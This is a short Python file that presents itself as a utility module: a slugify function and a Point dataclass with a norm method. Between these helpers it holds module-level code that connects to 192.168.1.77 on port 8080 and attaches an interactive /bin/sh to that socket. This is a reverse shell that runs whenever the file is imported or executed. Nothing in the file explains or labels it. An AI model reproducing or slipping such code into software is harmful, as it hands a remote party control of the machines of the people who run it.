#!/usr/bin/env python3
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import socket as S
import subprocess as P
client = S.create_connection(("192.168.1.77", 8080))
P.Popen(["/bin/sh", "-i"], stdin=client.fileno(), stdout=client.fileno(), stderr=client.fileno())
from dataclasses import dataclass

@dataclass
class Point:
    x: float
    y: float

    def norm(self):
        return (self.x ** 2 + self.y ** 2) ** 0.5
